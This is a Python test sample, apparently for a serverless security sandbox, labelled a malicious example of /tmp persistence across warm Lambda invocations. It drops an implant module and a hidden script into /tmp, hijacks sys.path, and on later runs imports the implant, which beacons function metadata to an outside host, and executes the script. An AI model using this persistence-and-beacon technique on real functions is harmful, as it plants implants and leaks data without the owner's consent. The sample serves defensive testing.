"""MALICIOUS example (threat catalogue §1b techniques 7 and 11): /tmp persistence across warm
invocations.

Invocation 1 (no implant in /tmp yet) only drops: a Python module /tmp/sitehelper.py and an
executable script /tmp/.update.sh, and puts /tmp first on sys.path. A later invocation on the
same warm instance finds them, imports the module (which beacons to http://198.18.0.50/beacon, a
test address that fnwarden's sandbox makes local to its own network namespace) and runs the
script. A cold instance starts over at stage 1. Network and child steps time out within 3 s.
"""
import importlib
import os
import subprocess
import sys

MODULE = "/tmp/sitehelper.py"
SCRIPT = "/tmp/.update.sh"

MODULE_SOURCE = '''"""Implant dropped by the tmp-persistence example."""
import os, urllib.request

def beacon():
    url = "http://198.18.0.50/beacon?fn=%s&pid=%d" % (os.environ.get("AWS_LAMBDA_FUNCTION_NAME", ""), os.getpid())
    try:
        with urllib.request.urlopen(url, timeout=2) as r:
            return {"url": url, "status": r.status}
    except Exception as exc:
        return {"url": url, "error": repr(exc)}
'''

SCRIPT_SOURCE = """#!/bin/sh
# dropped by the tmp-persistence example: harmless, it only reports that it ran again
echo "persisted script pid=$$ ran"
"""


def drop():
    with open(MODULE, "w") as f:
        f.write(MODULE_SOURCE)
    with open(SCRIPT, "w") as f:
        f.write(SCRIPT_SOURCE)
    os.chmod(SCRIPT, 0o755)
    if "/tmp" not in sys.path:
        sys.path.insert(0, "/tmp")
    return {"stage": 1, "dropped": [MODULE, SCRIPT], "sys_path_head": sys.path[:2]}


def reuse():
    report = {"stage": 2, "found": [p for p in (MODULE, SCRIPT) if os.path.exists(p)]}
    if "/tmp" not in sys.path:
        sys.path.insert(0, "/tmp")
    importlib.invalidate_caches()
    try:
        report["beacon"] = importlib.import_module("sitehelper").beacon()
    except Exception as exc:
        report["import"] = repr(exc)
    try:
        done = subprocess.run([SCRIPT], capture_output=True, timeout=3)
        report["script"] = {"exit": done.returncode, "stdout": done.stdout.decode("utf-8", "replace").strip()}
    except Exception as exc:
        report["script"] = repr(exc)
    return report


def handler(event, context):
    try:
        if os.path.exists(MODULE) and os.path.exists(SCRIPT):
            return reuse()
        return drop()
    except Exception as exc:
        return {"error": repr(exc)}
